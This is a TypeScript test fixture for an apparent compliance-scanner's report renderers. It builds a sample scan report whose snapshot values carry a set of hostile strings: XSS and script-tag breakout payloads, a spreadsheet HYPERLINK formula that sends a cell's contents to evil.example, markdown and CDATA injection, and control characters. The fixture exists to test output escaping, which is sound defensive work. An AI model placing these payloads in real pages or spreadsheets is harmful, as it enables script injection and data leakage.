// A hand-made ScanReport every reporter test renders: each result status, two snapshots, an unreadable input,
// findings located in native configs, a waiver, run warnings, and snapshot values written to attack each format.

import { createHash } from "node:crypto";
import type { Finding, PolicySummary, Result, ScanReport } from "../../src/engine/types.js";

/** Strings an attacker controls through a snapshot (usernames, endpoint names, messages). */
export const HOSTILE = {
  img: `<img src=x onerror="window.__pwned=1">`,
  script: `</script><script>window.__pwned=2</script>`,
  formula: `=HYPERLINK("http://evil.example/?x="&A1,"click")`,
  markdown: "| col | **bold** [link](http://evil.example) @admin `tick`",
  control: "bell\u0007 nul\u0000 esc\u001b vt\u000b",
  cdata: "]]> & \"quoted\" 'single'",
};

function fp(policyId: string, snapshot: string, subject: string): string {
  return createHash("sha256").update(`${policyId}\u0000${snapshot}\u0000${subject}`).digest("hex");
}

const POLICIES: PolicySummary[] = [
  {
    id: "CA-ACC-001",
    title: "Departed employees have no active account",
    category: "access",
    severity: "critical",
    description: "Every user whose employment ended is deactivated.",
    rationale: "An account left active after someone leaves is the easiest way back in.",
    remediation: "Deactivate the account in the System Console and revoke its sessions.",
    references: ["https://csrc.nist.gov/pubs/sp/800/53/r5/upd1/final"],
    frameworks: { "iso27001-2022": ["A.5.18", "A.8.2"], "nist-800-53-r5": ["AC-2"], "soc2-2017": ["CC6.2"] },
    tags: ["identity"],
    params: {},
    source: "policies/access/CA-ACC-001-departed-users.yaml",
  },
  {
    id: "CA-END-002",
    title: "Public endpoints require TLS 1.2 or later",
    category: "endpoints",
    severity: "high",
    description: "Every public endpoint serves TLS with a minimum version of 1.2.",
    rationale: "Old TLS versions are broken and leak session cookies.",
    remediation: "Set `ServiceSettings.TLSMinVer` to 1.2 and put the reverse proxy on TLS 1.2+.",
    references: ["https://www.cisecurity.org/controls/v8"],
    frameworks: { "cis-controls-v8": ["3.10"], "nist-800-53-r5": ["SC-8"] },
    tags: [],
    params: { minVersion: "1.2" },
    source: "policies/endpoints/CA-END-002-tls-version.yaml",
  },
  {
    id: "CA-BKP-001",
    title: "A successful backup finished recently",
    category: "backup",
    severity: "high",
    description: "The latest successful backup is younger than the limit.",
    rationale: "Without a recent backup, an incident loses days of messages.",
    remediation: "Fix the backup job and check that it runs on schedule.",
    references: ["https://example.org/backup-guide"],
    frameworks: { "iso27001-2022": ["A.8.13"], "soc2-2017": ["A1.2"], "nist-800-53-r5": ["CP-9"], "cis-controls-v8": ["11.2"] },
    tags: [],
    params: { maxAgeHours: 26 },
    source: "policies/backup/CA-BKP-001-recent-backup.yaml",
  },
  {
    id: "CA-RET-001",
    title: "Messages are deleted after the retention period",
    category: "retention",
    severity: "medium",
    description: "Message retention is on and no longer than the limit.",
    rationale: "Keeping messages forever widens what a breach exposes.",
    remediation: "Turn on the data retention policy.",
    references: [],
    frameworks: { "iso27001-2022": ["A.5.33"] },
    tags: [],
    params: { maxAgeDays: 365 },
    source: "policies/retention/CA-RET-001-message-retention.yaml",
  },
  {
    id: "CA-MON-001",
    title: "Metrics are collected",
    category: "monitoring",
    severity: "low",
    description: "The metrics endpoint is enabled.",
    rationale: "Capacity problems are seen before users see them.",
    remediation: "Enable metrics.",
    references: ["https://example.org/metrics"],
    frameworks: { "iso27001-2022": ["A.8.16"] },
    tags: [],
    params: {},
    source: "policies/monitoring/CA-MON-001-metrics.yaml",
  },
  {
    id: "CA-AUD-001",
    title: "Audit logging is enabled",
    category: "audit",
    severity: "info",
    description: "Audit logging is on.",
    rationale: "Investigations need a trail.",
    remediation: "Enable audit logging.",
    references: [],
    frameworks: { "iso27001-2022": ["A.8.15"], "soc2-2017": ["CC7.2"] },
    tags: [],
    params: {},
    source: "policies/audit/CA-AUD-001-audit-logging.yaml",
  },
];

const PROD = "chat-prod";
const EDGE = `edge ${HOSTILE.img}`;

function policy(id: string): PolicySummary {
  const p = POLICIES.find((x) => x.id === id);
  if (!p) throw new Error(`sample report: no policy ${id}`);
  return p;
}

function result(id: string, snapshot: string, input: string, status: Result["status"], counts: Partial<Result> = {}): Result {
  const p = policy(id);
  return {
    policyId: id, title: p.title, category: p.category, severity: p.severity, snapshot, input, status,
    evaluated: 1, failed: status === "fail" || status === "waived" ? 1 : 0, waived: status === "waived" ? 1 : 0, ...counts,
  };
}

function finding(id: string, snapshot: string, subject: string, extra: Partial<Finding> & Pick<Finding, "message" | "location">): Finding {
  const p = policy(id);
  return {
    policyId: id, title: p.title, category: p.category, severity: p.severity, status: "fail", snapshot, subject,
    evidence: { expected: true, actual: {} }, fingerprint: fp(id, snapshot, subject), frameworks: p.frameworks, ...extra,
  };
}

const PROD_INPUT = "fixtures/mattermost/config.json";
const EDGE_INPUT = "fixtures/snapshots/edge.yaml";

const results: Result[] = [
  result("CA-ACC-001", PROD, PROD_INPUT, "fail", { evaluated: 4, failed: 2 }),
  result("CA-END-002", PROD, PROD_INPUT, "fail", { evaluated: 3, failed: 1 }),
  result("CA-BKP-001", PROD, PROD_INPUT, "waived"),
  result("CA-RET-001", PROD, PROD_INPUT, "pass", { evaluated: 1 }),
  result("CA-MON-001", PROD, PROD_INPUT, "not-evaluated", { evaluated: 0, reason: "monitoring.metrics is missing from the snapshot" }),
  result("CA-AUD-001", PROD, PROD_INPUT, "pass"),
  result("CA-ACC-001", EDGE, EDGE_INPUT, "pass", { evaluated: 2 }),
  result("CA-END-002", EDGE, EDGE_INPUT, "fail", { evaluated: 1, failed: 1 }),
  result("CA-BKP-001", EDGE, EDGE_INPUT, "not-evaluated", { evaluated: 0, reason: "backups.runs is missing from the snapshot" }),
  result("CA-RET-001", EDGE, EDGE_INPUT, "error", { evaluated: 0, reason: `message template failed: ${HOSTILE.script}` }),
  result("CA-MON-001", EDGE, EDGE_INPUT, "pass"),
  result("CA-AUD-001", EDGE, EDGE_INPUT, "fail", { evaluated: 1, failed: 1 }),
];

const findings: Finding[] = [
  finding("CA-ACC-001", PROD, "users/u-17", {
    message: `User ${HOSTILE.img} left on 2026-03-01 and is still active`,
    evidence: { expected: { status: "deactivated" }, actual: { username: HOSTILE.img, status: "active", employment: "terminated" } },
    location: { path: "fixtures/mattermost/users.json", line: 42, column: 7 },
  }),
  finding("CA-ACC-001", PROD, `users/${HOSTILE.script}`, {
    message: `User ${HOSTILE.script} left and is still active`,
    evidence: { expected: { status: "deactivated" }, actual: { username: HOSTILE.script, note: HOSTILE.control } },
    location: { path: "fixtures/mattermost/users.json", line: 58, column: 7 },
  }),
  finding("CA-END-002", PROD, "endpoints/siteurl", {
    message: "Endpoint siteurl accepts TLS 1.0, minimum 1.2",
    evidence: { expected: { minVersion: ">= 1.2" }, actual: { url: "https://chat.example.com", minVersion: "1.0" } },
    location: { path: "fixtures/mattermost/config.json", line: 12, column: 5 },
  }),
  finding("CA-BKP-001", PROD, "snapshot", {
    status: "waived",
    message: "Last successful backup 70 h ago, limit 26 h",
    evidence: { expected: { maxAgeHours: 26 }, actual: { ageHours: 70 } },
    location: { path: "fixtures/mattermost/config.json", line: 1, column: 1 },
    waiver: { reason: `Backup host migration, ticket OPS-12 ${HOSTILE.cdata}`, owner: "ops@example.com", expires: "2026-12-31" },
    baselineState: "unchanged",
  }),
  finding("CA-END-002", EDGE, `endpoints/${HOSTILE.markdown}`, {
    message: `${HOSTILE.formula} serves plain HTTP ${HOSTILE.control}`,
    evidence: { expected: { "tls.enabled": true }, actual: { name: HOSTILE.markdown, url: "http://edge.internal:8065" } },
    location: { path: "fixtures/snapshots/edge.yaml", line: 23, column: 9 },
    baselineState: "new",
  }),
  finding("CA-AUD-001", EDGE, "snapshot", {
    message: `-2+3 audit logging is off ${HOSTILE.cdata}`,
    evidence: { expected: true, actual: { "audit.logging.enabled": false } },
    location: { path: "fixtures/snapshots/edge.yaml", line: 30, column: 3 },
  }),
];

/** The sample report, as the engine and gate would produce it at a fixed clock. */
export function sampleReport(): ScanReport {
  return {
    tool: {
      name: "chataudit",
      version: "0.1.0",
      policyPackVersion: "0.1.0+1a2b3c4d",
      releaseCatalogue: { date: "2026-05-20", source: "data/releases.json" },
    },
    asOf: "2026-06-01T00:00:00.000Z",
    inputs: [
      { path: "fixtures/broken.yaml", sha256: "0".repeat(64), platform: "unknown", status: "error", error: { message: `expected a mapping ${HOSTILE.img}`, line: 3, column: 5 } },
      { path: PROD_INPUT, sha256: "a".repeat(64), platform: "mattermost", snapshot: PROD, collectedAt: "2026-05-31T22:00:00Z", source: "fixtures/mattermost/config.json", status: "ok" },
      { path: EDGE_INPUT, sha256: "b".repeat(64), platform: "generic", snapshot: EDGE, collectedAt: "2026-05-30T08:00:00Z", status: "ok" },
    ],
    summary: {
      inputs: 3,
      inputErrors: 1,
      snapshots: 2,
      policies: POLICIES.length,
      results: { pass: 4, fail: 4, "not-evaluated": 2, error: 1, waived: 1 },
      findings: { total: 6, failing: 5, waived: 1, bySeverity: { critical: 2, high: 2, medium: 0, low: 0, info: 1 }, new: 1, fixed: 0 },
      failOn: "high",
      gateFindings: 3,
      exitCode: 2,
    },
    results,
    findings,
    policies: POLICIES,
    warnings: [`waiver for CA-BKP-001 expires in 30 days (owner ops@example.com) ${HOSTILE.img}`, "the release catalogue is 12 days old"],
    waivers: [
      {
        policy: "CA-BKP-001", snapshot: PROD, reason: `Backup host migration, ticket OPS-12 ${HOSTILE.cdata}`, owner: "ops@example.com",
        expires: "2026-12-31", state: "active", matched: 1, location: { path: ".chataudit-waivers.yaml", line: 2, column: 3 },
      },
      { policy: "CA-MON-001", reason: "Metrics are collected by the platform team's agent", owner: "platform@example.com", expires: "2026-01-31", state: "expired", matched: 0 },
    ],
  };
}

/** A report where nothing fails: the short summaries. */
export function cleanReport(): ScanReport {
  const base = sampleReport();
  const passing = base.results.filter((r) => r.snapshot === PROD).map((r) => ({ ...r, status: "pass" as const, failed: 0, waived: 0, reason: undefined }));
  return {
    ...base,
    inputs: base.inputs.filter((i) => i.path === PROD_INPUT),
    results: passing,
    findings: [],
    warnings: [],
    waivers: [],
    summary: {
      ...base.summary,
      inputs: 1,
      inputErrors: 0,
      snapshots: 1,
      results: { pass: passing.length, fail: 0, "not-evaluated": 0, error: 0, waived: 0 },
      findings: { total: 0, failing: 0, waived: 0, bySeverity: { critical: 0, high: 0, medium: 0, low: 0, info: 0 } },
      gateFindings: 0,
      exitCode: 0,
    },
  };
}
